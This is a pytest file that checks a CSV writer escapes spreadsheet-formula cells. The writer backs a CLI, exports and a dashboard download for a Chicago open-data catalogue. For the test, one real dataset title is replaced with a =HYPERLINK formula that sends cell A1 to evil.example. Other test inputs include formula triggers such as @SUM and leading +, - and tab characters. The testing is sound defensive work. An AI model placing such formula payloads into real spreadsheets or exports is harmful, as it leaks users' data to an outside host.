"""One CSV writer with the spreadsheet-formula guard, for the CLI, the dashboard download and the exports
(the download: tests/layouts/test_csv_download.py).

A real Chicago title (2022-06-29 scrape, xzkq-xp2w "Current Employee Names, Salaries, and Position Titles") is
turned into a formula cell, imported, and read back through each of the three ways out.
"""
from __future__ import annotations

import csv
import gzip
import io
from datetime import UTC, datetime

import orjson
import pandas as pd
import pytest

import storage
from maturity import cli, csv_writer, exports, settings
from tests.conftest import FIXTURES

SNAPSHOT = FIXTURES / "socrata/history/data.cityofchicago.org/2022-06-29.jsonl.gz"
TARGET = "xzkq-xp2w"
REAL_TITLE = "Current Employee Names, Salaries, and Position Titles"
FORMULA = f'=HYPERLINK("http://evil.example/?leak=" & A1, "{REAL_TITLE}")'


def formula_city(tmp_path):
    """A temp config and database holding the 2022-06-29 Chicago scrape with one title made a formula."""
    lines = gzip.decompress(SNAPSHOT.read_bytes()).splitlines()
    items = [orjson.loads(line) for line in lines if line.strip()]
    hits = [it for it in items if it["resource"]["id"] == TARGET]
    assert hits and all(it["resource"]["name"] == REAL_TITLE for it in hits)  # the real title, as recorded
    for it in hits:
        it["resource"]["name"] = FORMULA
    snap = tmp_path / "2022-06-29.jsonl"
    snap.write_bytes(b"\n".join(orjson.dumps(it) for it in items))
    config = tmp_path / "config.toml"
    config.write_text(f"""
[storage]
url = "sqlite:///{tmp_path / 'csv.db'}"
[[cities]]
key = "chicago"
name = "Chicago, IL"
[[cities.portals]]
kind = "socrata"
url = "https://data.cityofchicago.org"
""")
    assert cli.main(["--config", str(config), "import", "--city", "chicago", "--as-of", "2022-06-29",
                     str(snap)]) == 0
    return config


@pytest.fixture
def city(tmp_path, capsys):
    config = formula_city(tmp_path)

    def run(*args: str) -> tuple[int, str, str]:
        capsys.readouterr()
        code = cli.main(["--config", str(config), *args])
        out, err = capsys.readouterr()
        return code, out, err

    return run, settings.load(config, environ={})


def _title_of(text: str) -> str:
    return next(r["title"] for r in csv.DictReader(io.StringIO(text)) if r["source_id"] == TARGET)


def test_cli_datasets_csv_guards_the_formula_title(city):
    run, _ = city
    code, out, err = run("datasets", "--city", "chicago", "--format", "csv")
    assert code == 0, err
    assert _title_of(out) == "'" + FORMULA  # before: written as is, a live formula in a spreadsheet
    # JSON is no spreadsheet: the title stays as the portal wrote it
    code, out, _ = run("datasets", "--city", "chicago", "--format", "json")
    assert next(r["title"] for r in orjson.loads(out) if r["source_id"] == TARGET) == FORMULA


def test_export_guards_it_the_same_way(city, tmp_path):
    _, cfg = city
    engine = storage.open_db(cfg.storage_url)
    paths = exports.export(cfg, engine, city_key="chicago", out_dir=tmp_path / "out", formats=("csv",))
    datasets_csv = next(p for p in paths if p.name == "datasets.csv")
    assert _title_of(datasets_csv.read_text(encoding="utf-8")) == "'" + FORMULA


def test_cells():
    frame = pd.DataFrame({
        "title": ["@SUM(A1)", "+1", "-x", "\tTAB", "Building Violations", None],
        "views": [-3.0, 1.0, None, 2.0, 0.0, 5.0],  # numbers stay numbers, a negative one too
        "keywords": [("a", "b"), (), None, ("x",), ("y",), ("z",)],
        "columns": [(("id", "text"),), (), None, (), (), ()],
        "created": pd.to_datetime(["2022-06-08T05:00:00+00:00", None, None, None, None, None], utc=True),
    })
    out = io.StringIO()
    csv_writer.write_csv(frame, out)
    got = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["title"] for r in got] == ["'@SUM(A1)", "'+1", "'-x", "'\tTAB", "Building Violations", ""]
    assert [r["views"] for r in got] == ["-3.0", "1.0", "", "2.0", "0.0", "5.0"]
    assert [r["keywords"] for r in got] == ["a; b", "", "", "x", "y", "z"]
    assert got[0]["columns"] == '[["id", "text"]]'
    assert [r["created"] for r in got][:2] == ["2022-06-08T05:00:00Z", ""]
    assert csv_writer.iso_utc(datetime(2022, 6, 8, tzinfo=UTC)) == "2022-06-08T00:00:00Z"
